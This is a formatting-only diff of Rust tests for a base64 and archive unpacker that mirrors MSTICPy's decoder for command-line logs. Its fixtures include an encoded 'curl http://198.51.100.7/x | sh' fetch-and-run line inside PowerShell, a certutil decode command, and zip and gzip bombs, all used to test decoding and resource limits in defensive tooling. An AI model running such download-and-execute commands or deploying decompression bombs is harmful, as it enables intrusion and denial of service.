@@ -25,7 +25,6 @@ fn refs(u: &Unpacked) -> Vec<[&str; 3]> {
         .collect()
 }
 
-
 #[test]
 fn msticpy_walk_finds_nested_tails_at_the_same_level() {
     let input = "a YiBZeUJrUjJoc1NVZHNkV0p0Vm5saVZ6bDZaRU5DTUZwWWFEQkpSMng2U1Vkb2JHTnRWV2c9";
@@ -36,9 +35,15 @@ fn msticpy_walk_finds_nested_tails_at_the_same_level() {
          name='[None]' index='1.1' depth='2'>c <decoded type='string' name='[None]' \
          index='1.2' depth='2'>the innermost text is here!</decoded></decoded></decoded>"
     );
-    assert_eq!(refs(&u), [["", "1.", "1"], ["1.", "2.", "1"], ["1.", "2.", "2"]]);
+    assert_eq!(
+        refs(&u),
+        [["", "1.", "1"], ["1.", "2.", "1"], ["1.", "2.", "2"]]
+    );
     let last = &u.records[2];
-    assert_eq!(last.decoded_string.as_deref(), Some("the innermost text is here!"));
+    assert_eq!(
+        last.decoded_string.as_deref(),
+        Some("the innermost text is here!")
+    );
     assert_eq!(last.file_name.as_deref(), Some("unknown"));
     assert_eq!(last.file_type, None);
     assert_eq!(last.encoding_type, "utf-8");
@@ -68,33 +73,58 @@ fn msticpy_walk_goes_deeper_only_when_the_last_candidate_decoded() {
 fn default_walk_decodes_every_layer_with_msticpys_prefixes() {
     let input = "e ZSBaU0JhVTBKclVqSm9jMU5WWkhOa1YwcDBWbTVzYVZaNmJEWmFSVTVEVFVad1dXRkVRa3BUUlRWM1drVm9UbG95UmtoV2JteGhWVlF3T1E9PQ==";
     let u = unpack(input, &UnpackOptions::default());
-    assert!(u.decoded.ends_with(
-        "e <decoded type='string' name='[None]' index='1..1..1.1' depth='4'>the innermost \
+    assert!(
+        u.decoded.ends_with(
+            "e <decoded type='string' name='[None]' index='1..1..1.1' depth='4'>the innermost \
          text sits here</decoded></decoded></decoded></decoded>"
-    ), "{}", u.decoded);
+        ),
+        "{}",
+        u.decoded
+    );
     assert_eq!(
         refs(&u),
-        [["", "1.", "1"], ["1.", "2.", "1"], ["1..1.", "3.", "1"], ["1..1..1.", "4.", "1"]]
+        [
+            ["", "1.", "1"],
+            ["1.", "2.", "1"],
+            ["1..1.", "3.", "1"],
+            ["1..1..1.", "4.", "1"]
+        ]
     );
     let u = unpack(
         "a YiBZeUJrUjJoc1NVZHNkV0p0Vm5saVZ6bDZaRU5DTUZwWWFEQkpSMng2U1Vkb2JHTnRWV2c9",
         &UnpackOptions::default(),
     );
-    assert_eq!(refs(&u), [["", "1.", "1"], ["1.", "2.", "1"], ["1..1.", "3.", "1"]]);
+    assert_eq!(
+        refs(&u),
+        [["", "1.", "1"], ["1.", "2.", "1"], ["1..1.", "3.", "1"]]
+    );
 }
 
 #[test]
 fn hex_runs_stay_readable_by_default() {
     let md5 = "d41d8cd98f00b204e9800998ecf8427e";
     let sha256 = "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855";
-    let input = format!("Hashes=MD5={md5},SHA256={sha256} {}", b64(b"and a real payload here!!"));
+    let input = format!(
+        "Hashes=MD5={md5},SHA256={sha256} {}",
+        b64(b"and a real payload here!!")
+    );
     let u = unpack(&input, &UnpackOptions::default());
-    assert!(u.decoded.contains(md5) && u.decoded.contains(sha256), "{}", u.decoded);
+    assert!(
+        u.decoded.contains(md5) && u.decoded.contains(sha256),
+        "{}",
+        u.decoded
+    );
     assert_eq!(refs(&u), [["", "1.", "1"]]);
     // MSTICPy decodes both digests into binary noise.
     let m = unpack(&input, &UnpackOptions::msticpy());
     assert!(!m.decoded.contains(md5));
-    assert_eq!(m.records.iter().filter(|r| r.encoding_type == "binary").count(), 2);
+    assert_eq!(
+        m.records
+            .iter()
+            .filter(|r| r.encoding_type == "binary")
+            .count(),
+        2
+    );
 }
 
 #[test]
@@ -127,7 +157,10 @@ fn zip_with_several_members_gives_multiple_markup() {
     assert_eq!(bin.encoding_type, "binary");
     assert_eq!(bin.decoded_string, None);
     assert_eq!(bin.input_bytes.as_deref(), Some(&b"\x00\xff\x10binary"[..]));
-    assert_eq!(bin.file_hashes.as_ref().unwrap().md5, "ce861ad59b55e787de2390270e11de41");
+    assert_eq!(
+        bin.file_hashes.as_ref().unwrap().md5,
+        "ce861ad59b55e787de2390270e11de41"
+    );
 }
 
 #[test]
@@ -144,7 +177,10 @@ fn binary_with_a_known_type() {
     );
     let r = &u.records[0];
     assert_eq!(r.file_type.as_deref(), Some("pdf"));
-    assert_eq!(r.file_hashes.as_ref().unwrap().md5, "c2da207c119d668b9668d21c7325c296");
+    assert_eq!(
+        r.file_hashes.as_ref().unwrap().md5,
+        "c2da207c119d668b9668d21c7325c296"
+    );
     assert_eq!(r.md5_hex(), Some("c2da207c119d668b9668d21c7325c296"));
 }
 
@@ -166,7 +202,10 @@ fn gzip_member_is_named_gzip_file() {
          depth='1'>compressed hello</decoded>"
     );
     assert_eq!(u.records[0].file_name.as_deref(), Some("gzip_file"));
-    assert_eq!(u.records[0].md5_hex(), Some("e4302e2f593f330f16ceabc34f276924"));
+    assert_eq!(
+        u.records[0].md5_hex(),
+        Some("e4302e2f593f330f16ceabc34f276924")
+    );
 }
 
 #[test]
@@ -188,22 +227,37 @@ fn encoded_command_is_utf16_by_default_and_nul_ridden_utf8_in_msticpy_mode() {
 #[test]
 fn utf16_outer_with_utf8_inner_is_found_on_the_next_level() {
     let inner = b64(b"curl http://198.51.100.7/x | sh");
-    let outer = format!("$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}'))");
+    let outer =
+        format!("$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}'))");
     let utf16: Vec<u8> = outer.encode_utf16().flat_map(u16::to_le_bytes).collect();
-    let u = unpack(&format!("pwsh -e {}", b64(&utf16)), &UnpackOptions::default());
-    assert!(u.decoded.contains("curl http://198.51.100.7/x | sh"), "{}", u.decoded);
+    let u = unpack(
+        &format!("pwsh -e {}", b64(&utf16)),
+        &UnpackOptions::default(),
+    );
+    assert!(
+        u.decoded.contains("curl http://198.51.100.7/x | sh"),
+        "{}",
+        u.decoded
+    );
     assert_eq!(refs(&u), [["", "1.", "1"], ["1.", "2.", "1"]]);
 }
 
 #[test]
 fn text_without_base64_is_untouched() {
-    for input in ["", "no encoded content here", "C:\\Windows\\System32\\cmd.exe /c dir"] {
+    for input in [
+        "",
+        "no encoded content here",
+        "C:\\Windows\\System32\\cmd.exe /c dir",
+    ] {
         let u = unpack(input, &UnpackOptions::default());
         assert_eq!(u.decoded, input);
         assert!(u.records.is_empty());
     }
     // A 30+ run that is not valid base64 stays as it is, without records.
-    let u = unpack("token abcdefghijklmnopqrstuvwxyz01234 end", &UnpackOptions::default());
+    let u = unpack(
+        "token abcdefghijklmnopqrstuvwxyz01234 end",
+        &UnpackOptions::default(),
+    );
     assert_eq!(u.decoded, "token abcdefghijklmnopqrstuvwxyz01234 end");
     assert!(u.records.is_empty());
 }
@@ -211,10 +265,17 @@ fn text_without_base64_is_untouched() {
 #[test]
 fn non_ascii_text_positions_count_characters() {
     let payload = b64("ünïcödé text that decodes fine".as_bytes());
-    let input = format!("日本語 ß {payload} é {}", b64(b"second payload, plain ascii!!"));
+    let input = format!(
+        "日本語 ß {payload} é {}",
+        b64(b"second payload, plain ascii!!")
+    );
     let u = unpack(&input, &UnpackOptions::default());
-    assert!(u.decoded.contains("ünïcödé text that decodes fine</decoded>"));
-    assert!(u.decoded.contains("second payload, plain ascii!!</decoded>"));
+    assert!(u
+        .decoded
+        .contains("ünïcödé text that decodes fine</decoded>"));
+    assert!(u
+        .decoded
+        .contains("second payload, plain ascii!!</decoded>"));
     assert_eq!(u.records.len(), 2);
 }
 
@@ -223,14 +284,20 @@ fn pad_input_option_pads_like_unpack_items() {
     // 30 characters of base64 for 22 bytes and 2 dropped '=': decodes only padded.
     let enc = b64(b"twenty-two bytes here!");
     let trimmed = enc.trim_end_matches('=');
-    assert!(unpack(trimmed, &UnpackOptions::default()).records.is_empty());
+    assert!(unpack(trimmed, &UnpackOptions::default())
+        .records
+        .is_empty());
     let opts = UnpackOptions {
         pad_input: true,
         ..UnpackOptions::default()
     };
     let u = unpack(trimmed, &opts);
     assert_eq!(u.records.len(), 1);
-    assert!(u.records[0].input_bytes.as_ref().unwrap().starts_with(b"twenty-two bytes here"));
+    assert!(u.records[0]
+        .input_bytes
+        .as_ref()
+        .unwrap()
+        .starts_with(b"twenty-two bytes here"));
 }
 
 #[test]
@@ -260,7 +327,9 @@ fn depth_limit_yields_an_error_record_only_when_base64_is_left() {
     // Four levels fit exactly (the first plus three more).
     let u = unpack(&nested(4, "core text long enough to be a candidate"), &opts);
     assert!(u.records.iter().all(|r| r.encoding_type != ERROR_ENCODING));
-    assert!(u.decoded.contains("core text long enough to be a candidate"));
+    assert!(u
+        .decoded
+        .contains("core text long enough to be a candidate"));
 
     let u = unpack(&nested(6, "core text long enough to be a candidate"), &opts);
     let errors: Vec<_> = u
@@ -270,8 +339,13 @@ fn depth_limit_yields_an_error_record_only_when_base64_is_left() {
         .collect();
     assert_eq!(errors.len(), 1, "{:?}", u.records);
     let msg = errors[0].decoded_string.as_deref().unwrap();
-    assert!(msg.contains("deeper than 4 levels") && msg.contains("max_recursion"), "{msg}");
-    assert!(!u.decoded.contains("core text long enough to be a candidate"));
+    assert!(
+        msg.contains("deeper than 4 levels") && msg.contains("max_recursion"),
+        "{msg}"
+    );
+    assert!(!u
+        .decoded
+        .contains("core text long enough to be a candidate"));
 }
 
 #[test]
@@ -285,19 +359,39 @@ fn fragment_limit_reports_candidates_left_encoded() {
     let good = b64(b"payload that is never reached");
     let bad: Vec<String> = ["Q", "R", "S", "T"].iter().map(|c| c.repeat(33)).collect();
     let input = format!("{} {good}", bad.join(" "));
-    for opts in [opts.clone(), UnpackOptions { msticpy_walk: true, ..opts }] {
+    for opts in [
+        opts.clone(),
+        UnpackOptions {
+            msticpy_walk: true,
+            ..opts
+        },
+    ] {
         let u = unpack(&input, &opts);
         assert_eq!(u.records.len(), 1, "{:?}", u.records);
         let err = &u.records[0];
         assert_eq!(err.encoding_type, ERROR_ENCODING);
         assert_eq!(err.original_string, good);
         assert_eq!(err.reference, ["".to_string(), "1.".into(), "4".into()]);
-        assert!(err.decoded_string.as_deref().unwrap().contains("max_fragments"));
+        assert!(err
+            .decoded_string
+            .as_deref()
+            .unwrap()
+            .contains("max_fragments"));
         assert_eq!(u.decoded, input);
     }
     // With a decodable candidate among the first ones, the next level carries on.
-    let input = format!("{} {} {good}", b64(b"an early payload decodes fine"), bad.join(" "));
-    let u = unpack(&input, &UnpackOptions { max_fragments: 3, ..UnpackOptions::default() });
+    let input = format!(
+        "{} {} {good}",
+        b64(b"an early payload decodes fine"),
+        bad.join(" ")
+    );
+    let u = unpack(
+        &input,
+        &UnpackOptions {
+            max_fragments: 3,
+            ..UnpackOptions::default()
+        },
+    );
     assert!(u.records.iter().all(|r| r.encoding_type != ERROR_ENCODING));
     assert!(u.decoded.contains("payload that is never reached"));
 }
@@ -315,8 +409,14 @@ fn byte_budget_stops_the_row_with_an_error() {
     assert_eq!(u.records[0].encoding_type, "utf-8");
     let err = &u.records[1];
     assert_eq!(err.encoding_type, ERROR_ENCODING);
-    assert!(err.decoded_string.as_deref().unwrap().contains("max_total_bytes"));
-    assert!(u.decoded.contains("<decoded value='error' name='[None]' type='None' index='2' depth='1'>"));
+    assert!(err
+        .decoded_string
+        .as_deref()
+        .unwrap()
+        .contains("max_total_bytes"));
+    assert!(u
+        .decoded
+        .contains("<decoded value='error' name='[None]' type='None' index='2' depth='1'>"));
 }
 
 #[test]
@@ -329,13 +429,19 @@ fn output_length_limit_stops_the_row() {
     let u = unpack(&format!("a {bin}"), &opts);
     assert_eq!(u.records.len(), 1);
     assert_eq!(u.records[0].encoding_type, ERROR_ENCODING);
-    assert!(u.records[0].decoded_string.as_deref().unwrap().contains("max_output_len"));
+    assert!(u.records[0]
+        .decoded_string
+        .as_deref()
+        .unwrap()
+        .contains("max_output_len"));
     assert_eq!(u.decoded, format!("a {bin}"));
 }
 
 #[test]
 fn member_limits_give_error_items() {
-    let files: Vec<(String, String)> = (0..5).map(|i| (format!("m{i}.txt"), format!("member {i}"))).collect();
+    let files: Vec<(String, String)> = (0..5)
+        .map(|i| (format!("m{i}.txt"), format!("member {i}")))
+        .collect();
     let opts = UnpackOptions {
         max_archive_members: 2,
         ..UnpackOptions::default()
@@ -343,7 +449,11 @@ fn member_limits_give_error_items() {
     let u = unpack(&b64(&corpus::zip(&files)), &opts);
     assert_eq!(u.records.len(), 3);
     assert_eq!(u.records[2].encoding_type, ERROR_ENCODING);
-    assert!(u.records[2].decoded_string.as_deref().unwrap().contains("3 more members"));
+    assert!(u.records[2]
+        .decoded_string
+        .as_deref()
+        .unwrap()
+        .contains("3 more members"));
     assert!(u.decoded.contains("name='[zip] 3 more members'"));
 }
 
@@ -356,7 +466,10 @@ fn corrupt_archive_falls_back_to_binary() {
     let u = unpack(&b64(&gz), &UnpackOptions::default());
     assert_eq!(u.records.len(), 1);
     let r = &u.records[0];
-    assert_eq!((r.file_type.as_deref(), r.file_name.as_deref()), (Some("gz"), Some("unknown")));
+    assert_eq!(
+        (r.file_type.as_deref(), r.file_name.as_deref()),
+        (Some("gz"), Some("unknown"))
+    );
     assert_eq!(r.encoding_type, "binary");
     assert!(u.decoded.contains("name='[gz]' type='gz'"));
 }
@@ -410,7 +523,11 @@ fn bomb_child() {
     let Ok(which) = std::env::var(BOMB_CHILD_ENV) else {
         return;
     };
-    let bomb = if which == "gzip" { gzip_bomb() } else { zip_bomb() };
+    let bomb = if which == "gzip" {
+        gzip_bomb()
+    } else {
+        zip_bomb()
+    };
     let text = format!("cmd /c echo {} | certutil -decode", b64(&bomb));
     drop(bomb);
     let started = Instant::now();
@@ -422,9 +539,25 @@ fn bomb_child() {
         .filter(|r| r.encoding_type == ERROR_ENCODING)
         .filter_map(|r| r.decoded_string.as_deref())
         .collect();
-    assert_eq!(errors.len(), 1, "{:?}", u.records.iter().map(|r| &r.encoding_type).collect::<Vec<_>>());
-    assert!(errors[0].contains("zeros.bin") || which == "gzip", "{}", errors[0]);
-    assert!(errors[0].contains("decoding budget") || errors[0].contains("ratio"), "{}", errors[0]);
+    assert_eq!(
+        errors.len(),
+        1,
+        "{:?}",
+        u.records
+            .iter()
+            .map(|r| &r.encoding_type)
+            .collect::<Vec<_>>()
+    );
+    assert!(
+        errors[0].contains("zeros.bin") || which == "gzip",
+        "{}",
+        errors[0]
+    );
+    assert!(
+        errors[0].contains("decoding budget") || errors[0].contains("ratio"),
+        "{}",
+        errors[0]
+    );
     if which == "zip" {
         assert!(u.decoded.contains("innocent looking member"));
     }
@@ -441,7 +574,13 @@ fn bombs_finish_fast_in_bounded_memory() {
     for which in ["gzip", "zip"] {
         let started = Instant::now();
         let out = std::process::Command::new(&exe)
-            .args(["--ignored", "--exact", "unpack::tests::bomb_child", "--nocapture", "--test-threads=1"])
+            .args([
+                "--ignored",
+                "--exact",
+                "unpack::tests::bomb_child",
+                "--nocapture",
+                "--test-threads=1",
+            ])
             .env(BOMB_CHILD_ENV, which)
             .output()
             .unwrap();
@@ -467,7 +606,10 @@ fn bombs_finish_fast_in_bounded_memory() {
         assert!(started.elapsed() < Duration::from_secs(120), "{which}");
         if cfg!(target_os = "linux") {
             let peak_mib = field("peak_kib=") / 1024;
-            assert!(peak_mib > 0 && peak_mib < 256, "{which} bomb peak memory {peak_mib} MiB");
+            assert!(
+                peak_mib > 0 && peak_mib < 256,
+                "{which} bomb peak memory {peak_mib} MiB"
+            );
         }
     }
 }
@@ -491,37 +633,80 @@ fn table_has_msticpys_fifteen_columns_in_order() {
         None,
         Some(format!("b {}", b64(b"third row has this payload here"))),
     ]);
-    let out = unpack_base64(&batch("CommandLine", Arc::new(rows)), "CommandLine", &UnpackOptions::default()).unwrap();
-    let names: Vec<String> = out.schema().fields().iter().map(|f| f.name().clone()).collect();
+    let out = unpack_base64(
+        &batch("CommandLine", Arc::new(rows)),
+        "CommandLine",
+        &UnpackOptions::default(),
+    )
+    .unwrap();
+    let names: Vec<String> = out
+        .schema()
+        .fields()
+        .iter()
+        .map(|f| f.name().clone())
+        .collect();
     assert_eq!(
         names,
         [
-            "reference", "original_string", "file_name", "file_type", "input_bytes",
-            "decoded_string", "encoding_type", "file_hashes", "md5", "sha1", "sha256",
-            "printable_bytes", "src_index", "CommandLine", "full_decoded_string"
+            "reference",
+            "original_string",
+            "file_name",
+            "file_type",
+            "input_bytes",
+            "decoded_string",
+            "encoding_type",
+            "file_hashes",
+            "md5",
+            "sha1",
+            "sha256",
+            "printable_bytes",
+            "src_index",
+            "CommandLine",
+            "full_decoded_string"
         ]
     );
     assert_eq!(out.num_rows(), 2);
-    let src = out.column_by_name("src_index").unwrap().as_primitive::<Int64Type>();
+    let src = out
+        .column_by_name("src_index")
+        .unwrap()
+        .as_primitive::<Int64Type>();
     assert_eq!(src.values().to_vec(), [0, 3]);
-    let decoded = out.column_by_name("decoded_string").unwrap().as_string::<i64>();
+    let decoded = out
+        .column_by_name("decoded_string")
+        .unwrap()
+        .as_string::<i64>();
     assert_eq!(decoded.value(1), "third row has this payload here");
-    let input = out.column_by_name("CommandLine").unwrap().as_string::<i64>();
+    let input = out
+        .column_by_name("CommandLine")
+        .unwrap()
+        .as_string::<i64>();
     assert!(input.value(1).starts_with("b "));
-    let full = out.column_by_name("full_decoded_string").unwrap().as_string::<i64>();
+    let full = out
+        .column_by_name("full_decoded_string")
+        .unwrap()
+        .as_string::<i64>();
     assert!(full.value(0).starts_with("a <decoded type='string'"));
     let reference = out.column_by_name("reference").unwrap().as_list::<i32>();
     let first = reference.value(0);
     let parts = first.as_string::<i32>();
-    assert_eq!((parts.value(0), parts.value(1), parts.value(2)), ("", "1.", "1"));
+    assert_eq!(
+        (parts.value(0), parts.value(1), parts.value(2)),
+        ("", "1.", "1")
+    );
     let hashes = out.column_by_name("file_hashes").unwrap().as_struct();
     let md5 = hashes.column_by_name("md5").unwrap().as_string::<i32>();
     let md5_col = out.column_by_name("md5").unwrap().as_string::<i32>();
     assert_eq!(md5.value(0), md5_col.value(0));
     assert_eq!(md5.value(0).len(), 32);
-    let bytes = out.column_by_name("input_bytes").unwrap().as_binary::<i64>();
+    let bytes = out
+        .column_by_name("input_bytes")
+        .unwrap()
+        .as_binary::<i64>();
     assert_eq!(bytes.value(0), b"first row payload decoded text");
-    let printable = out.column_by_name("printable_bytes").unwrap().as_string::<i64>();
+    let printable = out
+        .column_by_name("printable_bytes")
+        .unwrap()
+        .as_string::<i64>();
     assert!(printable.value(0).starts_with("66 69 72 73 74"));
 }
 
@@ -531,10 +716,16 @@ fn table_accepts_large_utf8_and_reports_errors_in_rows() {
         max_total_bytes: 10,
         ..UnpackOptions::default()
     };
-    let rows = LargeStringArray::from(vec![format!("x {}", b64(b"more than ten bytes of payload"))]);
+    let rows = LargeStringArray::from(vec![format!(
+        "x {}",
+        b64(b"more than ten bytes of payload")
+    )]);
     let out = unpack_base64(&batch("text", Arc::new(rows)), "text", &opts).unwrap();
     assert_eq!(out.num_rows(), 1);
-    let enc = out.column_by_name("encoding_type").unwrap().as_string::<i32>();
+    let enc = out
+        .column_by_name("encoding_type")
+        .unwrap()
+        .as_string::<i32>();
     assert_eq!(enc.value(0), "error");
     assert!(out.column_by_name("file_hashes").unwrap().is_null(0));
     assert!(out.column_by_name("input_bytes").unwrap().is_null(0));
@@ -555,7 +746,10 @@ fn table_errors_name_the_column() {
     let b = batch("CommandLine", Arc::new(rows));
     let err = unpack_base64(&b, "Cmd", &UnpackOptions::default()).unwrap_err();
     let msg = err.to_string();
-    assert!(msg.contains("\"Cmd\"") && msg.contains("\"CommandLine\""), "{msg}");
+    assert!(
+        msg.contains("\"Cmd\"") && msg.contains("\"CommandLine\""),
+        "{msg}"
+    );
     let err = unpack_base64(&b, "id", &UnpackOptions::default()).unwrap_err();
     assert!(matches!(err, UnpackError::NotText { .. }), "{err}");
     assert!(err.to_string().contains("Int32"));
@@ -563,10 +757,21 @@ fn table_errors_name_the_column() {
 
 #[test]
 fn input_column_named_like_an_output_column_takes_its_place() {
-    let rows = StringArray::from(vec![format!("x {}", b64(b"payload text for the collision"))]);
-    let out = unpack_base64(&batch("original_string", Arc::new(rows)), "original_string", &UnpackOptions::default()).unwrap();
+    let rows = StringArray::from(vec![format!(
+        "x {}",
+        b64(b"payload text for the collision")
+    )]);
+    let out = unpack_base64(
+        &batch("original_string", Arc::new(rows)),
+        "original_string",
+        &UnpackOptions::default(),
+    )
+    .unwrap();
     assert_eq!(out.num_columns(), 14);
-    let col = out.column_by_name("original_string").unwrap().as_string::<i64>();
+    let col = out
+        .column_by_name("original_string")
+        .unwrap()
+        .as_string::<i64>();
     assert!(col.value(0).starts_with("x "));
 }
 
@@ -578,6 +783,12 @@ fn table_rows_match_single_string_results() {
     let out = unpack_base64(&batch("c", Arc::new(array)), "c", &opts).unwrap();
     let expected: usize = rows.iter().map(|r| unpack(r, &opts).records.len()).sum();
     assert_eq!(out.num_rows(), expected);
-    let src = out.column_by_name("src_index").unwrap().as_primitive::<Int64Type>();
-    assert!(src.values().windows(2).all(|w| w[0] <= w[1]), "rows stay in input order");
+    let src = out
+        .column_by_name("src_index")
+        .unwrap()
+        .as_primitive::<Int64Type>();
+    assert!(
+        src.values().windows(2).all(|w| w[0] <= w[1]),
+        "rows stay in input order"
+    );
 }
